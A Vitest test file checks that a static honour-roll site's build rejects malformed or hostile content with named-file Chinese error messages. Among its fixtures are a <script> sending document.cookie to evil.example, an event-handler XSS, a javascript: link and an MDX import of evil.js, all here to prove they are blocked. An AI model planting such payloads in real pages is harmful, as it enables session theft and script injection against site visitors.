/**
 * Bad content never half-publishes: each fixture below is the valid `minimal` site with one
 * mistake a clerk could make. The build must fail, name the file and the field in a Chinese
 * message with a hint, and write nothing.
 *
 * The build stops on these in its first step, the content check (src/integrations/honor-roll.ts),
 * with the report of checkSite. So every case runs through that same check in-process and its
 * report as the build prints it; one case of each way a build can go wrong runs end to end as
 * well, through a real build that must fail and write nothing.
 */
import { existsSync, readFileSync, rmSync, statSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkSite } from '../../src/lib/check/check-site';
import { formatReport } from '../../src/lib/check/report';
import { activePublicDir, resolveSitePaths } from '../../src/lib/site-paths';
import { BUILD_TIME, buildFixture, FIXTURES, prepareFixture, PROJECT_ROOT, type BuildResult } from './harness';
import { buildMinimalSite } from './shared-builds';

const minimal = (file: string) => readFileSync(path.join(FIXTURES, 'minimal', file), 'utf8');
const officer = minimal('content/officers/test-officer.md');
const honor = minimal('content/honors/test-honor.md');
const letter = minimal('content/letters/test-letter.md');
const stats = minimal('content/stats/test-period.yaml');
const activity = minimal('content/activities/test-activity.md');
/** The minimal letter written as MDX, with `body` as its body. */
const mdxLetter = (body: string) => `${letter.trimEnd()}\n\n${body}\n`;

interface BadCase {
  name: string;
  files?: Record<string, string | Buffer>;
  remove?: string[];
  /** The file the message must name, relative to the site folder. */
  file: string;
  /** The field the message must name, as written in the file. */
  field?: string;
  code: string;
  /** A fragment of the Chinese message. */
  says: string;
  /**
   * Also through a real build: a reference (the usual mistake), YAML Astro would choke on, the
   * site config (stopped before the content), an MDX import (Astro would run it), a GBK file, a
   * body that would hang Astro's Markdown, and a picture Astro itself would fail on.
   */
  endToEnd?: true;
}

const CASES: BadCase[] = [
  {
    name: 'an officer whose unit does not exist',
    endToEnd: true,
    files: { 'content/officers/test-officer.md': officer.replace('unit: test-station', 'unit: no-such-unit') },
    file: 'content/officers/test-officer.md',
    field: 'unit',
    code: 'reference-missing',
    says: '引用的单位 “no-such-unit” 不存在',
  },
  {
    name: 'an honour naming a recipient that does not exist (nested reference)',
    files: { 'content/honors/test-honor.md': honor.replace('officers: [test-officer]', 'officers: [test-oficer]') },
    file: 'content/honors/test-honor.md',
    field: 'recipients.officers[0]',
    code: 'reference-missing',
    says: '是不是 test-officer',
  },
  {
    name: 'a letter thanking a unit that does not exist',
    files: { 'content/letters/test-letter.md': letter.replace('officers: [test-officer]', 'units: [ghost-unit]') },
    file: 'content/letters/test-letter.md',
    field: 'to.units[0]',
    code: 'reference-missing',
    says: '引用的单位 “ghost-unit” 不存在',
  },
  {
    name: 'two entries with the same id',
    files: { 'content/officers/test-officer.mdx': officer },
    file: 'content/officers/test-officer.mdx',
    code: 'id-duplicate',
    says: 'id “test-officer” 重复',
  },
  {
    name: 'a photo without its alt text',
    files: { 'content/officers/test-officer.md': officer.replace('photoAlt: 测试头像\n', '') },
    file: 'content/officers/test-officer.md',
    field: 'photoAlt',
    code: 'alt-missing',
    says: '缺少图片的文字说明 photoAlt',
  },
  {
    name: 'a certificate without its alt text',
    files: { 'content/honors/test-honor.md': honor.replace('date: 2020-04', 'date: 2020-04\ncertificate: ../officers/test-officer.png') },
    file: 'content/honors/test-honor.md',
    field: 'certificateAlt',
    code: 'alt-missing',
    says: '缺少图片的文字说明 certificateAlt',
  },
  {
    name: 'an honour with no recipients',
    files: { 'content/honors/test-honor.md': honor.replace('recipients:\n  officers: [test-officer]', 'recipients: {}') },
    file: 'content/honors/test-honor.md',
    field: 'recipients',
    code: 'recipients',
    says: 'recipients 为空',
  },
  {
    name: 'an individual honour given to a unit',
    files: { 'content/honors/test-honor.md': honor.replace('officers: [test-officer]', 'officers: [test-officer]\n  units: [test-station]') },
    file: 'content/honors/test-honor.md',
    field: 'recipients.units',
    code: 'recipients',
    says: 'scope 为 individual（个人荣誉），却填写了获奖单位',
  },
  {
    name: 'a metric key repeated within one period',
    files: { 'content/stats/test-period.yaml': stats.replace('key: incidents', 'key: people-checked') },
    file: 'content/stats/test-period.yaml',
    field: 'metrics[1].key',
    code: 'metric-duplicate',
    says: '指标代码 people-checked 在本期重复出现',
  },
  {
    name: 'a missing required field',
    files: { 'content/officers/test-officer.md': officer.replace('summary: 测试用人物。\n', '') },
    file: 'content/officers/test-officer.md',
    field: 'summary',
    code: 'required',
    says: '缺少必填字段 summary',
  },
  {
    name: 'a date that is not a date',
    files: { 'content/letters/test-letter.md': letter.replace('date: 2020-06-18', 'date: 2020-13') },
    file: 'content/letters/test-letter.md',
    field: 'date',
    code: 'date',
    says: '月份 13 不存在',
  },
  {
    name: 'a day that does not exist',
    files: { 'content/letters/test-letter.md': letter.replace('date: 2020-06-18', 'date: 2020-02-30') },
    file: 'content/letters/test-letter.md',
    field: 'date',
    code: 'date',
    says: '2020年2月没有30日',
  },
  {
    name: 'an unknown enum value',
    files: { 'content/officers/test-officer.md': officer.replace('role: police', 'role: polise') },
    file: 'content/officers/test-officer.md',
    field: 'role',
    code: 'enum',
    says: '是不是想写 police',
  },
  {
    name: 'malformed YAML frontmatter',
    endToEnd: true,
    files: { 'content/officers/test-officer.md': officer.replace('summary: 测试用人物。', 'summary: 测试用人物。\n  tags: [a, b\nfeatured: true') },
    file: 'content/officers/test-officer.md',
    code: 'yaml',
    says: 'YAML 格式有误',
  },
  {
    name: 'a file without frontmatter',
    files: { 'content/activities/test-activity.md': '只有正文，没有字段。\n' },
    file: 'content/activities/test-activity.md',
    code: 'frontmatter-missing',
    says: '文件开头没有 frontmatter',
  },
  {
    name: 'a missing image file',
    endToEnd: true,
    files: { 'content/officers/test-officer.md': officer.replace('photo: test-officer.png', 'photo: test-officer.jpg') },
    file: 'content/officers/test-officer.md',
    field: 'photo',
    code: 'image-missing',
    says: '找不到图片文件 test-officer.jpg',
  },
  {
    name: 'a stats value that is not a number',
    files: { 'content/stats/test-period.yaml': stats.replace('value: 386', 'value: 很多') },
    file: 'content/stats/test-period.yaml',
    field: 'metrics[1].value',
    code: 'schema',
    says: '应为数字',
  },
  {
    name: 'a misspelt field name',
    files: { 'content/officers/test-officer.md': officer.replace('consent: true', 'consnet: true') },
    file: 'content/officers/test-officer.md',
    field: 'consnet',
    code: 'unknown-field',
    says: 'consnet → consent',
  },
  {
    name: 'two units without a parent',
    files: { 'content/units/test-station.md': minimal('content/units/test-station.md').replace('parent: root-unit\n', '') },
    file: 'content/units',
    field: 'parent',
    code: 'unit-tree',
    says: '本站单位只能有一个',
  },
  {
    name: 'a file name that cannot be a URL id',
    files: { 'content/officers/王祥.md': officer },
    file: 'content/officers/王祥.md',
    code: 'id-invalid',
    says: '不能用作网址 id',
  },
  {
    name: 'an invalid site config',
    endToEnd: true,
    files: { 'site.config.yaml': 'title: 测试\nurl: example.com\n' },
    file: 'site.config.yaml',
    field: 'url',
    code: 'config',
    says: '应为以 http:// 或 https:// 开头的完整网址',
  },
  {
    name: 'an import in an MDX body',
    endToEnd: true,
    files: { 'content/letters/test-letter.mdx': mdxLetter("import Evil from '../../evil.js'") },
    remove: ['content/letters/test-letter.md'],
    file: 'content/letters/test-letter.mdx',
    field: '正文',
    code: 'unsafe-body',
    says: '正文中不能使用 import 或 export',
  },
  {
    name: 'a JavaScript expression in an MDX body',
    files: { 'content/letters/mdx-letter.mdx': minimal('content/letters/mdx-letter.mdx').replace('这是一条', '这是 {globalThis.process.env.HOME} 一条') },
    file: 'content/letters/mdx-letter.mdx',
    field: '正文',
    code: 'unsafe-body',
    says: '正文中不能使用 { } 表达式（JavaScript）',
  },
  {
    name: 'a component the project does not provide, in MDX',
    files: { 'content/letters/mdx-letter.mdx': `${minimal('content/letters/mdx-letter.mdx')}\n<Tracker id="x" />\n` },
    file: 'content/letters/mdx-letter.mdx',
    code: 'unsafe-body',
    says: '正文中不能使用组件 <Tracker>',
  },
  {
    name: 'a <script> in a Markdown body',
    files: { 'content/activities/test-activity.md': `${activity}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n` },
    file: 'content/activities/test-activity.md',
    code: 'unsafe-body',
    says: '正文中不能使用 <script> 标签',
  },
  {
    name: 'an event handler in raw HTML',
    files: { 'content/activities/test-activity.md': `${activity}\n<span onmouseover="alert(1)">移过来</span>\n` },
    file: 'content/activities/test-activity.md',
    code: 'unsafe-body',
    says: '不能带 onmouseover 属性',
  },
  {
    name: 'a javascript: link',
    files: { 'content/activities/test-activity.md': `${activity}\n[详情](javascript:alert(document.domain))\n` },
    file: 'content/activities/test-activity.md',
    code: 'unsafe-body',
    says: '不安全',
  },
  {
    name: 'a mobile number in a letter body',
    files: { 'content/letters/test-letter.md': `${letter}\n写信人电话：13812345678\n` },
    file: 'content/letters/test-letter.md',
    field: '正文',
    code: 'personal-data',
    says: '含有手机号码（138****5678）',
  },
  {
    name: 'a resident ID number in a field',
    files: { 'content/letters/test-letter.md': letter.replace('from: 市民测试女士', 'from: 市民测试女士（身份证 11010519491231002X）') },
    file: 'content/letters/test-letter.md',
    field: 'from',
    code: 'personal-data',
    says: '含有身份证号',
  },
  {
    name: 'an oversized image',
    files: { 'content/officers/test-officer.png': Buffer.alloc(21 * 1024 * 1024, 1) },
    file: 'content/officers/test-officer.md',
    field: 'photo',
    code: 'image-size',
    says: '图片文件太大（21 MB，上限 20 MB）',
  },
  {
    name: 'a file saved in GBK instead of UTF-8',
    endToEnd: true,
    // 张军强 in GBK: bytes that are not valid UTF-8.
    files: { 'content/officers/gbk-officer.md': Buffer.concat([Buffer.from('---\nname: '), Buffer.from([0xd5, 0xc5, 0xbe, 0xfc, 0xc7, 0xbf]), Buffer.from('\nrole: police\nunit: root-unit\nsummary: x\n---\n')]) },
    file: 'content/officers/gbk-officer.md',
    code: 'encoding',
    says: '文件不是 UTF-8 编码',
  },
  {
    name: 'a 10 MB body',
    endToEnd: true,
    files: { 'content/activities/test-activity.md': `${activity}\n${'很长的正文。'.repeat(600_000)}\n` },
    file: 'content/activities/test-activity.md',
    code: 'unsafe-body',
    says: '正文过长',
  },
  {
    name: 'a list nested hundreds of levels deep',
    files: { 'content/activities/test-activity.md': `${activity}\n${Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- 层`).join('\n')}\n` },
    file: 'content/activities/test-activity.md',
    code: 'unsafe-body',
    says: '正文的列表或引用嵌套太深',
  },
  {
    name: 'a placeholder left by npm run new',
    files: { 'content/officers/test-officer.md': officer.replace('summary: 测试用人物。', 'summary: （请填写：一句话简介）') },
    file: 'content/officers/test-officer.md',
    field: 'summary',
    code: 'placeholder',
    says: '还没有填写：一句话简介',
  },
];

describe('a build with bad content', () => {
  it('has at least 25 hostile or malformed fixtures', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(25);
  });

  it.each(CASES)('the check stops $name, naming the file and the field', async (badCase) => {
    const { report, errors, siteDir } = await checkAsTheBuildDoes(badCase);
    expect(errors, report).toBeGreaterThan(0);
    expectNamed(report, siteDir, badCase);
  });

  it.each(CASES.filter((c) => c.endToEnd))('a build fails on $name, says so and writes nothing', async (badCase) => {
    const build = await buildFixture('minimal', { files: badCase.files ?? {}, remove: badCase.remove ?? [] });
    expect(build.status, build.output).not.toBe(0);
    expectNamed(build.output, build.siteDir, badCase);
    expect(build.output).not.toContain('Stack trace');
    expect(existsSync(build.outDir)).toBe(false);
  });

  /**
   * Four mistakes in three files, built over the output folder of a good build of the site: one
   * failing build, read by the two tests it is named in.
   */
  let overGood: Promise<{ good: BuildResult; index: string; before: { text: string; mtime: number } | null; bad: BuildResult }> | undefined;
  const failedOverGood = () =>
    (overGood ??= (async () => {
      const good = await buildMinimalSite();
      const index = path.join(good.outDir, 'index.html');
      const before = good.status === 0 ? { text: readFileSync(index, 'utf8'), mtime: statSync(index).mtimeMs } : null;
      const bad = await buildFixture('minimal', {
        outDir: good.outDir,
        files: {
          'content/officers/test-officer.md': officer.replace('role: police', 'role: polise').replace('summary: 测试用人物。\n', ''),
          'content/honors/test-honor.md': honor.replace('officers: [test-officer]', 'officers: [nobody]'),
          'content/stats/test-period.yaml': stats.replace('value: 386', 'value: 很多'),
        },
      });
      return { good, index, before, bad };
    })());

  it('reports every problem of every file in one run', async () => {
    const { bad: build } = await failedOverGood();
    expect(build.status).not.toBe(0);
    expect(build.output).toContain('内容有 4 个错误');
    for (const fragment of ['role', '缺少必填字段 summary', '“nobody” 不存在', '应为数字']) expect(build.output).toContain(fragment);
  });

  it('handles a file that starts with a byte-order mark (as Windows Notepad saves it)', async () => {
    // The shared site's officer and stats files start with a BOM (shared-builds.ts buildMinimalSite).
    const build = await buildMinimalSite();
    for (const file of ['content/officers/test-officer.md', 'content/stats/test-period.yaml']) expect(readFileSync(path.join(build.siteDir, file)).subarray(0, 3), file).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(build.status, build.output).toBe(0);
    expect(readFileSync(path.join(build.outDir, 'officers', 'test-officer', 'index.html'), 'utf8')).toContain('<h1>测试民警</h1>');
  });

  it('keeps the previous good site untouched when a later build fails', async () => {
    // The site other test files read at the same time: a failing build that writes nothing leaves it as they expect.
    const { good, index, before, bad } = await failedOverGood();
    expect(good.status, good.output).toBe(0);
    expect(bad.status).not.toBe(0);
    expect(readFileSync(index, 'utf8')).toBe(before!.text);
    expect(statSync(index).mtimeMs).toBe(before!.mtime);
    expect(existsSync(path.join(good.outDir, 'officers', 'test-officer', 'index.html'))).toBe(true);
  });
});

/** The report a build prints when its content check stops it, made in-process with the same functions. */
async function checkAsTheBuildDoes(badCase: BadCase): Promise<{ report: string; errors: number; siteDir: string }> {
  const { siteDir } = prepareFixture('minimal', badCase.files ?? {});
  for (const file of badCase.remove ?? []) rmSync(path.join(siteDir, file), { force: true });
  const paths = resolveSitePaths(PROJECT_ROOT, { HONOR_ROLL_SITE: siteDir });
  const publicDir = activePublicDir(paths, path.join(PROJECT_ROOT, 'public'));
  const checked = await checkSite({ root: PROJECT_ROOT, contentDir: paths.contentDir, configFile: paths.configFile, publicDir, now: new Date(BUILD_TIME) });
  // An invalid config stops the build with the config's problems alone, before the content's.
  const problems = checked.config.ok ? checked.problems : checked.config.problems;
  return { report: formatReport(problems, { context: 'build' }), errors: problems.filter((p) => p.severity === 'error').length, siteDir };
}

/** The message names the file (as the terminal shows it), the field, the rule, and says how to fix it. */
function expectNamed(output: string, siteDir: string, badCase: BadCase): void {
  expect(output).toContain(path.join(siteDir, badCase.file).split(path.sep).join('/'));
  if (badCase.field) expect(output).toContain(`字段 ${badCase.field}`);
  expect(output).toContain(`[${badCase.code}]`);
  expect(output).toContain(badCase.says);
  expect(output).toContain('怎么改：');
}
